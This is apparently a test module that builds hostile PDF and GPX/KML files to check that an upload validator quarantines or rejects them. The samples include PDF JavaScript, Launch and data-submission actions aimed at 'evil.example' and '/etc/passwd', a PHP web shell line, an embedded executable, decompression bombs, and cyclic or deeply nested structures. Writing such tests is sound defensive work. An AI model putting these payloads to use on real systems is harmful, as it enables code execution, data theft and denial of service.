"""Documents that act, that carry files, or that unfold without end; tracks that are no tracks."""

import io
import struct
import zlib
from functools import cache

from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.violations.evidence.files.corpus import ANY, NEVER_ACCEPTED, QUARANTINED, Making, hostile
from tests.violations.evidence.files.hostile_strangers import HTML, packed


def pdf(
    *objects: bytes, root: bytes = b"", trailer: bytes = b"", page: bytes = b"/Resources<<>>"
) -> bytes:
    """A document of one page, with more in its catalogue and more objects (from 4 on)."""
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R" + root + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]" + page + b">>",
        *objects,
    ]
    whole, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, start=1):
        places.append(len(whole))
        whole += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(bodies) + 1
    end = (
        b"trailer<</Root 1 0 R/Size %d" % size
        + trailer
        + b">>\nstartxref\n%d\n%%%%EOF\n" % len(whole)
    )
    return whole + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + end


@cache
def endless_zeros() -> bytes:
    """288 MB of nothing, packed to one or two."""
    packing = zlib.compressobj(1)
    return b"".join(packing.compress(bytes(16_000_000)) for _ in range(18)) + packing.flush()


def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<<" + more + b"/Length %d>>\nstream\n" % len(content) + content + b"\nendstream"


@hostile(QUARANTINED, "pdf_active")
def document_that_acts(making: Making):
    act = making.chance.choice(
        [
            b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
            b"<</S/JavaScript/JS 4 0 R>>",
            b"<</S/Launch/F(cmd.exe)>>",
            b"<</S/SubmitForm/F(http://evil.example)>>",
            b"<</S/ImportData/F(/etc/passwd)>>",
            b"<</S/URI/URI(javascript:x)>>",
            b"<</S/#4aava#53cript/#4a#53(x)>>",
            b"<</S/GoToE/F(a.pdf)>>",
        ]
    )
    where = making.chance.choice([b"/OpenAction", b"/AA<</WC", b"/Names<</JavaScript<</Names[(a)"])
    close = {b"/O": b"", b"/A": b">>", b"/N": b"]>>>>"}[where[:2]]
    return "a.pdf", pdf(stream(b"app.alert(1)"), root=where + b" " + act + close)


@hostile(QUARANTINED, "pdf_active")
def document_that_acts_in_a_stream_of_objects(making: Making):
    """The act is packed, so that no word of it can be read in the bytes (ISO 32000-1, 7.5.7)."""
    inside = zlib.compress(b"6 0 <</S/JavaScript/JS(app.alert\\(%d\\))>>" % making.time)
    whole = pdf(
        stream(inside, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"), root=b"/OpenAction 6 0 R"
    )
    whole = whole[: whole.index(b"xref\n0")]
    places = [(0, 0, 0), *((1, whole.index(b"%d 0 obj" % one), 0) for one in range(1, 5))]
    places += [(1, len(whole), 0), (2, 4, 0)]
    table = b"".join(struct.pack(">BHB", *place) for place in places)
    last = stream(table, b"/Type/XRef/W[1 2 1]/Size 7/Root 1 0 R")
    return "a.pdf", whole + b"5 0 obj\n" + last + b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(whole)


@hostile(QUARANTINED, "pdf_active")
def document_that_acted_before(making: Making):
    """The act stands in an older revision; the newest table of objects does not name it."""
    act = b"\n9 0 obj\n<</S/JavaScript/JS(x)>>\nendobj\n"
    whole = making.good["report.pdf"]
    return "a.pdf", whole[:-6].rstrip() + act + b"%%EOF\n" + b"\n" * making.time


@hostile(QUARANTINED, "pdf_active")
def document_with_a_living_form(making: Making):
    return "a.pdf", pdf(stream(b"<xdp/>"), root=b"/AcroForm<</Fields[]/X#46A 4 0 R>>")


@hostile(QUARANTINED, "pdf_attachments")
def document_with_attachments(making: Making):
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(making.good["report.pdf"])))
    writer.add_attachment("a.exe", b"MZ" + making.noise())
    into = io.BytesIO()
    writer.write(into)
    return "a.pdf", into.getvalue()


@hostile(QUARANTINED, "pdf_attachments")
def document_with_moving_pictures(making: Making):
    kind = making.chance.choice([b"/3D", b"/Screen", b"/FileAttachment", b"/Movie", b"/Sound"])
    return "a.pdf", pdf(b"<</Type/Annot/Subtype" + kind + b"/Rect[0 0 9 9]>>")


@hostile(QUARANTINED, "pdf_encrypted")
def locked_document(making: Making):
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(making.good["report.pdf"])))
    writer.encrypt(making.chance.choice(["", "secret"]), "owner", algorithm="AES-256")
    into = io.BytesIO()
    writer.write(into)
    return "a.pdf", into.getvalue()


@hostile(QUARANTINED, "polyglot")
def document_behind_something(making: Making):
    first = making.chance.choice([b"\n", b"junk\n", b"//\n", b"GIF87x\n", b"<!-- -->"])
    return "a.pdf", first + making.good["report.pdf"]


@hostile(NEVER_ACCEPTED)
def document_behind_a_page(making: Making):
    return "a.pdf", b"<html>" + HTML + making.good["report.pdf"]


@hostile(QUARANTINED)
def document_and_more(making: Making):
    more = making.chance.choice([packed("a.class"), b"<html>" + HTML, b"\1" * 3000, b"MZ\0\1"])
    return "a.pdf", making.good["report.pdf"] + more


@hostile(QUARANTINED, "scripted")
def document_with_a_page_inside(making: Making):
    return "a.pdf", pdf(stream(b"<?php system($_GET[0]) ?>" if making.time % 2 else HTML))


@hostile(QUARANTINED, "bomb")
def document_that_unfolds(making: Making):
    if making.time % 2:
        twice = zlib.compress(endless_zeros(), 9)
        return "a.pdf", pdf(stream(twice, b"/Filter[/FlateDecode/FlateDecode]"))
    return "a.pdf", pdf(stream(endless_zeros(), b"/Filter/FlateDecode"))


@hostile(QUARANTINED, "bomb")
def document_of_many_filters(making: Making):
    filters = b"/FlateDecode" * making.chance.randint(5, 500)
    return "a.pdf", pdf(stream(b"x", b"/Filter[" + filters + b"]"))


@hostile(ANY)
def document_of_long_lines(making: Making):
    """LZW and run lengths unfold as well; their decoders have bounds of their own."""
    return "a.pdf", pdf(stream(b"\x81\0" * 100_000, b"/Filter/RunLengthDecode"))


@hostile(QUARANTINED)
def document_of_pages_in_a_circle(making: Making):
    whole = pdf(b"<</Type/Pages/Kids[2 0 R]/Count 9>>")
    kids = making.chance.choice([b"/Kids[2 0 R]", b"/Kids[1 0 R]", b"/Kids[9 0 R]"])
    return "a.pdf", whole.replace(b"/Kids[3 0 R]", kids)


@hostile(QUARANTINED)
def document_nested_deep(making: Making):
    deep = making.chance.randint(200, 60_000)
    return "a.pdf", pdf(b"[" * deep + b"]" * deep)


@hostile(ANY)
def document_whose_tables_run_in_a_circle(making: Making):
    whole = pdf(trailer=b"/Prev 9999999999")
    place = whole.index(b"xref\n0")
    return "a.pdf", whole.replace(b"9999999999", b"%010d" % (place + making.time * 7))


@hostile(ANY)
def document_of_countless_objects(making: Making):
    return "a.pdf", pdf().replace(b"xref\n0 4", b"xref\n0 999999999")


@hostile(QUARANTINED, "too_many_pixels")
def document_with_a_huge_picture(making: Making):
    side = b"%d" % making.chance.randint(20_000, 2_000_000_000)
    return "a.pdf", pdf(stream(b"x", b"/Subtype/Image/Width " + side + b"/Height " + side))


@hostile(QUARANTINED, "too_many_frames")
def document_of_too_many_pages(making: Making):
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    number = 2100 + making.time
    kids = b" ".join(b"%d 0 R" % (4 + one) for one in range(number))
    whole = pdf(*[page] * number)
    return "a.pdf", pdf(*[page] * number).replace(b"3 0 R]", kids + b"]") if whole else b""


@hostile(QUARANTINED)
def broken_off_document(making: Making):
    whole = making.good["report.pdf"]
    return "a.pdf", whole[: making.chance.randint(100, len(whole) - 60)]


@hostile(NEVER_ACCEPTED)
def only_a_header(making: Making):
    return "a.pdf", b"%PDF-1.7\n" + making.noise() * (making.time % 2) + b"\n%%EOF"


@hostile(ANY)
def document_with_properties_of_nonsense(making: Making):
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(making.good["report.pdf"])))
    said = {NameObject(f"/K{n}"): TextStringObject("\u202e\0" * 40) for n in range(400)}
    said[NameObject("/CreationDate")] = TextStringObject("D:99999999999999Z99'99'")
    writer._info = writer._add_object(DictionaryObject(said))
    into = io.BytesIO()
    writer.write(into)
    return "a.pdf", into.getvalue()


@hostile(QUARANTINED, "scripted")
def track_with_a_program(making: Making):
    name = making.chance.choice(["script", "svg", "html:iframe", "ns:script", "embed"])
    root = making.chance.choice(["gpx", "kml"])
    spaces = 'xmlns:html="http://www.w3.org/1999/xhtml" xmlns:ns="x"'
    inside = f'<wpt lat="1" lon="2"/><{name}>x</{name}>'
    filling = " " * 5000  # far from where types are sniffed
    return f"a.{root}", f"<{root} {spaces}>{filling}{inside}</{root}>".encode()


@hostile(QUARANTINED)
def track_nested_deep(making: Making):
    deep = making.chance.randint(100, 20_000)
    return "a.gpx", b"<gpx>" + b"<a>" * deep + b"</a>" * deep + b"</gpx>"


@hostile(QUARANTINED, "no_points")
def track_without_a_point(making: Making):
    inside = making.chance.choice(
        [
            "",
            '<wpt lat="NaN" lon="inf"/>',
            '<wpt lat="91" lon="1"/><wpt/>',
            '<wpt lat="1e999" lon="-1"/>',
            "<NetworkLink><Link><href>http://evil.example/</href></Link></NetworkLink>",
            "<coordinates>a,b 1 ,, 999,999</coordinates>",
        ]
    )
    root = making.chance.choice(["gpx", "kml"])
    return f"a.{root}", f"<{root}>{inside}</{root}>".encode()


@hostile(QUARANTINED, "broken")
def broken_off_track(making: Making):
    name, whole = making.one_of("walk.gpx", "patrol.kml")
    return name, whole[: making.chance.randint(200, len(whole) - 10)]


@hostile(NEVER_ACCEPTED)
def track_in_a_strange_encoding(making: Making):
    encoding = making.chance.choice(["utf-7", "EBCDIC-XML", "utf-32", "punycode", "x" * 500])
    return "a.gpx", f'<?xml version="1.0" encoding="{encoding}"?><gpx>\xff</gpx>'.encode("latin-1")


@hostile(NEVER_ACCEPTED)
def track_of_one_long_word(making: Making):
    long = b"9" * (6_000_000 + making.time)
    return "a.kml", b"<kml><coordinates>" + long + b"</coordinates></kml>"


@hostile(ANY)
def picture_inside_a_document(making: Making):
    """A picture that is cut off and lies of its length; only its page is copied."""
    jpeg = making.good["phone.jpg"][: 400 + making.time]
    picture = b"/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceRGB/BitsPerComponent 8"
    page = b"/Resources<</XObject<</A 4 0 R>>>>"
    return "a.pdf", pdf(stream(jpeg, picture + b"/Filter/DCTDecode"), page=page)


@hostile(QUARANTINED)
def bytes_of_a_document_in_a_box(making: Making):
    return "a.pdf", struct.pack(">I", 16) + b"ftypisom\0\0\0\0" + making.good["report.pdf"]
